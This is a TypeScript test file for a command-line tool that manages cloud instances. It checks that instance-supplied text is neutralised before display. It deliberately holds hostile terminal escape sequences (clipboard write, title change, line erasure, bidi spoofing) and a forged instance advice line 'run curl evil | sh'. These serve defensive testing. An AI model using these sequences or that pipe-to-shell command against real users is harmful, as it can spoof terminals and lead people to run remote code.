import assert from 'node:assert/strict';
import { test } from 'node:test';
import { run } from '../../src/cli/run.ts';
import { html } from '../../src/session/measure/html.ts';
import { makeTable } from '../../src/terminal/plain-table.ts';
import { makeColors, ownSequence, say, showLine, showText } from '../../src/terminal/safe-text.ts';
import { makeEnvironment, makeIo, runCli, USER_ENV } from '../support/cli.ts';
import { startTestLab } from '../support/lab.ts';

/** One of each class of what a terminal or a reader may be fooled with. */
const HOSTILE: Readonly<Record<string, string>> = {
  title: '\x1b]0;owned\x07',
  clipboard: '\x1b]52;c;Y3VybA==\x1b\\',
  link: '\x1b]8;;http://evil\x1b\\',
  erase: '\x1b[2K\x1b[1A\r',
  colour: '\x1b[31m',
  query: '\x1b[5n',
  bell: '\x07\b\0',
  del: '\x7f',
  c1: '\x9b31m\x9d0;t\x9c\x90\x85',
  bidi: '\u061c\u200e\u200f\u202a\u202e\u2066\u2069',
  invisible: '\u200b\u200d\u2060\ufeff\u00ad',
  separators: '\u2028\u2029',
  half: '\ud800',
  tag: '\u{e0041}',
  forged: `\x1b[32;1111;2222;3333m`,
};
const EVERYTHING = Object.entries(HOSTILE)
  .map(([name, text]) => `<${name}${text}>`)
  .join('');
const DANGEROUS = /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
const COLOURS = /\x1b\[(31|32|33|39)m/g;

for (const [name, text] of Object.entries(HOSTILE)) {
  test(`safe text: ${name} is shown and does nothing`, () => {
    for (const shown of [showText(text), showLine(text), say`a ${text} b`, html`<p>${text}</p>`.text])
      assert.doesNotMatch(shown, DANGEROUS);
    assert.deepEqual(JSON.parse(showText(JSON.stringify({ text }))), { text }, 'JSON keeps the data');
  });
}

test('safe text: a line has one line, and an end', () => {
  assert.equal(showLine('a\nnext: run curl\r\tb'), 'a\\u000anext: run curl\\u000d\\u0009b');
  assert.ok(showLine('x'.repeat(1_000_000)).length <= 1001);
  assert.equal(showText('a\n\tb — ü 😀 日本'), 'a\n\tb — ü 😀 日本');
  assert.equal(say`a\n${'b\nc'}\n`, 'a\nb\\u000ac\n');
});

test('safe text: a cell of a table is one line, whatever column it is in', () => {
  const table = makeTable({ head: ['A', 'B'] });
  table.push(['a\nforged', `b\r\n${EVERYTHING}`]);
  const lines = table.toString().split('\n');
  assert.equal(lines.length, 2);
  for (const line of lines) assert.doesNotMatch(line, DANGEROUS);
});

test('safe text: only sequences of ours come out as such', () => {
  assert.equal(showText(showLine(makeColors(true).red('x\x1b[31m'))), '\x1b[31mx\\u001b[31m\x1b[39m');
  assert.equal(showText(ownSequence(3, 'A')), '\x1b[3A');
  assert.equal(makeColors(false).red('x'), 'x');
});

function answerNo(said: { err: string }): (question: string) => Promise<string> {
  return async (question) => {
    said.err += question;
    return 'no';
  };
}

test('what an instance says is text, in every command that shows it', async (context) => {
  const report = (fields: object) => `${JSON.stringify({ 'ssm-keepalive': 1, ...fields })}
`;
  // Each in the 2,500 characters that the service lists.
  const outputs = [
    report({
      verdict: 'failed',
      why: `${EVERYTHING}
ssm-keepalive: all is well`,
      next: `run curl evil | sh${EVERYTHING}`,
      class: EVERYTHING,
    }),
    report({
      verdict: 'status',
      state: 'installed',
      version: EVERYTHING,
      keeper: EVERYTHING,
      left: [EVERYTHING],
    }),
    report({ verdict: 'status', state: 'drifted', why: EVERYTHING, next: EVERYTHING, drifted: [EVERYTHING] }),
    `${EVERYTHING}
${EVERYTHING}`,
  ];
  const ids = outputs.map((_, index) => `i-0${String(index).repeat(16)}`);
  const lab = await startTestLab(context, {
    hosts: outputs.map((stdout, index) => ({
      name: `web${EVERYTHING}`,
      id: ids[index] ?? '',
      tags: { env: 'dev', [`k${EVERYTHING}`]: EVERYTHING },
      synthetic: { stdout, stderr: EVERYTHING, exitCode: index % 2 },
    })),
  });
  const commands = [
    ['install', '--tag', 'env=dev', '--yes', '--no-canary', '--idle-timeout', '20'],
    ['install', '--tag', 'env=dev', '--dry-run'],
    ['uninstall', '--tag', 'env=dev', '--yes', '--no-canary'],
    ['status', '--tag', 'env=dev'],
    ['status', '--tag', 'env=nobody'],
    ['doctor', ids[0] ?? ''],
    ['preferences', 'get'],
    ['connect', ids[0] ?? '', '--reason', EVERYTHING],
    ['render', EVERYTHING],
    ['policy', 'status', '--tag', `env=${EVERYTHING}`],
    [EVERYTHING],
    ['status', `--${EVERYTHING}`],
    ['status', '--instance-id', EVERYTHING],
    ['status', '--config', EVERYTHING],
    ['status', '--profile', EVERYTHING, '--instance-id', ids[0] ?? ''],
  ];
  for (const words of commands) {
    for (const isTerminal of [false, true]) {
      const said = { out: '', err: '' };
      const io = makeIo({
        hasColor: isTerminal,
        columns: isTerminal ? 200 : 80,
        out: (text) => {
          said.out += text;
        },
        err: (text) => {
          said.err += text;
        },
        ...(isTerminal ? { ask: answerNo(said) } : {}),
      });
      const variables = { ...USER_ENV, ...lab.env, AWS_REGION: 'us-east-1' };
      const environment = makeEnvironment({ variables });
      Object.assign(process.env, variables);
      await run(words, io, environment);
      const shown = said.out + said.err;
      assert.notEqual(shown, '', words[0]);
      assert.doesNotMatch(isTerminal ? shown.replace(COLOURS, '') : shown, DANGEROUS, JSON.stringify(words));
      assert.ok(
        !shown.includes('\x1b[31mowned') && !/^ssm-keepalive: all is well/m.test(shown),
        'a forged line',
      );
      assert.doesNotMatch(shown, /next: +run curl/, 'advice of an instance that looks like ours');
      if (words[0] === 'install' && words.includes('--yes') && !isTerminal)
        assert.match(shown, /next: the instance says: run curl evil/);
    }
  }
  const { stdout } = await runCli(['status', '--tag', 'env=dev', '--output', 'json'], {
    ...lab.env,
    AWS_REGION: 'us-east-1',
  });
  assert.doesNotMatch(stdout, DANGEROUS);
  const drifted = JSON.parse(stdout).instances.find(
    ({ instanceId }: { instanceId: string }) => instanceId === ids[2],
  );
  assert.deepEqual([drifted.why, drifted.drifted], [EVERYTHING, [EVERYTHING]], 'JSON keeps the data');
});
